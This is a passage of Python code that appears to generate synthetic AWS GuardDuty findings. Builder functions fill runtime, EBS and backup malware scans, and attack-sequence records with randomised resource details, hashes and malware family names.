        p.resource = {"resourceType": "Container", "containerDetails": {**container, "containerRuntime": "docker"},
                      "instanceDetails": inst.details}
        p.text["resource"] = f"container {container['name']} on EC2 instance {inst.instance_id}"
        p.text["iid"] = inst.instance_id


def _runtime(p: _Parts) -> None:
    _workload_resource(p)
    p.service_extra["featureName"] = "RuntimeMonitoring"
    p.service_extra["runtimeDetails"] = _runtime_details(p)
    name = p.ftype.name
    local_ip = p.resource.get("instanceDetails", {}).get("networkInterfaces", [{}])[0].get("privateIpAddress",
                                                                                           "10.0.0.10")
    if p.ftype.is_dns:
        _dns_action(p)
    elif any(k in name for k in ("C&C", "Tor", "Blackhole", "DropPoint", "BitcoinTool")):
        direction, rport, lport, proto = _network_shape(name, p.rng)
        _connection(p, local_ip, direction=direction, remote_port=rport, local_port=lport, protocol=proto)
    p.threat_evidence()


def _ebs_scan(p: _Parts, scan_type: str = "GUARDDUTY_INITIATED") -> dict[str, Any]:
    rng = p.rng
    threat = rng.choice(("Trojan.Linux.Mirai", "EICAR-Test-File (not a virus)", "Backdoor.Linux.Tsunami",
                         "Miner.Linux.XMRig"))
    path = rng.choice(("/var/tmp/.cache/kdevtmpfsi", "/tmp/xmrig", "/usr/local/bin/svc", "/home/ubuntu/eicar.com"))
    started = 1.7e9 + rng.randint(0, 5 * 10**7)
    volume = f"arn:aws:ec2:{p.world.region}:{p.world.account_id}:volume/vol-{rng.getrandbits(68):017x}"
    return {"scanId": f"{rng.getrandbits(128):032x}", "scanStartedAt": started, "scanCompletedAt": started + 600,
            "triggerFindingId": f"{rng.getrandbits(128):032x}", "sources": ["Bitdefender", "Amazon"],
            "scanDetections": {
                "scannedItemCount": {"totalGb": rng.randint(8, 200), "files": rng.randint(10**4, 10**6), "volumes": 1},
                "threatsDetectedItemCount": {"files": 1},
                "highestSeverityThreatDetails": {"severity": "HIGH", "threatName": threat, "count": 1},
                "threatDetectedByName": {"itemCount": 1, "uniqueThreatNameCount": 1, "shortened": False,
                                         "threatNames": [{"name": threat, "severity": "HIGH", "itemCount": 1,
                                                          "filePaths": [{"filePath": path, "volumeArn": volume,
                                                                         "hash": f"{rng.getrandbits(256):064x}",
                                                                         "fileName": path.rsplit("/", 1)[-1]}]}]}},
            "scanType": scan_type}


def _ebs_malware(p: _Parts) -> None:
    seg = p.ftype.resource_segment
    if seg == "EC2":
        _instance_resource(p, p.instance())
    elif seg == "Kubernetes":
        p.resource = _eks_resource(p, workload=True)
        p.resource["instanceDetails"] = p.instance().details
    elif seg == "ECS":
        cluster = p.rng.choice(p.world.ecs_clusters)
        p.resource = {"resourceType": "ECSCluster", "ecsClusterDetails": cluster}
        p.text["resource"] = f"ECS cluster {cluster['name']}"
    else:
        inst = p.instance()
        p.resource = {"resourceType": "Container", "instanceDetails": inst.details,
                      "containerDetails": {"containerRuntime": "docker", "id": f"{p.rng.getrandbits(256):064x}",
                                           "name": "app", "image": "python:3.11-slim"}}
        p.text["resource"] = f"a container on EC2 instance {inst.instance_id}"
    scan = _ebs_scan(p)
    volume_arn = scan["scanDetections"]["threatDetectedByName"]["threatNames"][0]["filePaths"][0]["volumeArn"]
    p.resource["ebsVolumeDetails"] = {"scannedVolumeDetails": [{
        "volumeArn": volume_arn, "volumeType": "gp3", "deviceName": "/dev/xvda", "volumeSizeInGB": 30,
        "encryptionType": "UNENCRYPTED", "snapshotArn": volume_arn.replace(":volume/vol-", ":snapshot/snap-")}]}
    p.service_extra["featureName"] = "EbsMalwareProtection"
    p.service_extra["ebsVolumeScanDetails"] = scan


def _backup_malware(p: _Parts) -> None:
    rng = p.rng
    region, account = p.world.region, p.world.account_id
    artifact = p.ftype.artifact or ""
    if artifact == "Snapshot":
        arn = f"arn:aws:ec2:{region}::snapshot/snap-{rng.getrandbits(68):017x}"
        p.resource = {"resourceType": "EBSSnapshot", "ebsSnapshotDetails": {"snapshotArn": arn}}
    elif artifact == "AMI":
        arn = f"arn:aws:ec2:{region}::image/ami-{rng.getrandbits(68):017x}"
        p.resource = {"resourceType": "EC2Image", "ec2ImageDetails": {"imageArn": arn}}
    else:
        arn = f"arn:aws:backup:{region}:{account}:recovery-point:{_uuid(rng)}"
        p.resource = {"resourceType": "RecoveryPoint",
                      "recoveryPointDetails": {"recoveryPointArn": arn, "backupVaultName": "Default"}}
    p.text["resource"] = arn
    sha = f"{rng.getrandbits(256):064x}"
    p.service_extra["featureName"] = "MalwareProtectionForBackup"
    p.service_extra["malwareScanDetails"] = {
        "threats": [{"name": rng.choice(("Trojan.Linux.Mirai", "Backdoor.Linux.Tsunami")), "hash": sha, "count": 1,
                     "itemDetails": [{"resourceArn": arn, "itemPath": "/usr/local/bin/svc", "hash": sha}]}],
        "scanId": f"{rng.getrandbits(128):032x}", "scanType": "BACKUP_INITIATED", "scanCategory": "FULL_SCAN",
        "uniqueThreatCount": 1}


def _attack_sequence(p: _Parts) -> None:
    rng = p.rng
    seg = p.ftype.resource_segment
    principal = p.principal()
    remote = p.remote()
    if seg == "S3":
        bucket = p.bucket()
        p.resource = {"resourceType": "AttackSequence", "accessKeyDetails": principal.details,
                      "s3BucketDetails": [bucket.details]}
    elif seg == "EC2":
        p.resource = {"resourceType": "AttackSequence", "instanceDetails": p.instance().details}
    elif seg == "EKS":
        p.resource = {"resourceType": "AttackSequence", "eksClusterDetails": rng.choice(p.world.eks_clusters)}
    elif seg == "ECS":
        p.resource = {"resourceType": "AttackSequence", "ecsClusterDetails": rng.choice(p.world.ecs_clusters)}
    else:
        p.resource = {"resourceType": "AttackSequence", "accessKeyDetails": principal.details}
    signals = []
    for i in range(rng.randint(3, 6)):
        api = rng.choice(_API_BY_PURPOSE[rng.choice(("Discovery", "Persistence", "DefenseEvasion", "Exfiltration"))])
        signals.append({"uid": f"{rng.getrandbits(128):032x}", "type": rng.choice(("FINDING", "CLOUD_TRAIL")),
                        "name": f"{api[1].split('.')[0]}:{api[0]}", "createdAt": 1.7e9 + i * 60,
                        "updatedAt": 1.7e9 + i * 60 + 30, "firstSeenAt": 1.7e9 + i * 60,
                        "lastSeenAt": 1.7e9 + i * 60 + 30, "severity": 5.0, "count": rng.randint(1, 20),
                        "actorIds": [principal.principal_id], "endpointIds": [remote.ip],
                        "activities": [{"type": "API_CALL", "api": {"operation": api[0], "service": api[1]}}]})
    p.service_extra["featureName"] = "Correlation"
    p.service_extra["detection"] = {"sequence": {
        "uid": f"{rng.getrandbits(128):032x}",
        "description": f"A sequence of actions involving {len(signals)} signals indicating a possible compromise "
                       f"was observed for {principal.user_type}/{principal.user_name}.",
        "actors": [{"id": principal.principal_id,
                    "user": {"name": principal.user_name, "uid": principal.principal_id, "type": principal.user_type,
                             "credentialUid": principal.access_key_id,
                             "account": {"uid": p.world.account_id}}}],
        "endpoints": [{"id": remote.ip, "ip": remote.ip,
                       "location": {"city": remote.details["city"]["cityName"],
                                    "country": remote.details["country"]["countryName"],
                                    "lat": remote.details["geoLocation"]["lat"],
                                    "lon": remote.details["geoLocation"]["lon"]},
                       "autonomousSystem": {"name": remote.details["organization"]["asnOrg"],
                                            "number": int(remote.details["organization"]["asn"])}}],
        "signals": signals,
        "sequenceIndicators": [{"key": "ATTACK_TACTIC", "values": ["Discovery", "Persistence", "Defense Evasion"],
                                "title": "MITRE ATT&CK tactics"}]}}
    p.text.update(resource=f"{principal.user_type}/{principal.user_name}", ip=remote.ip, user=principal.user_name)


_FAMILY_BUILDERS = {
    cat.EC2_NETWORK: _ec2_network,
    cat.EC2_DNS: _ec2_dns,
    cat.IAM_API: _iam_api,
    cat.S3_API: _s3_api,
    cat.S3_MALWARE: _s3_malware,
    cat.EKS_AUDIT: _eks_audit,
    cat.RDS_LOGIN: _rds_login,
    cat.LAMBDA_NETWORK: _lambda_network,
    cat.RUNTIME: _runtime,
    cat.EBS_MALWARE: _ebs_malware,
    cat.BACKUP_MALWARE: _backup_malware,
    cat.ATTACK_SEQUENCE: _attack_sequence,
}

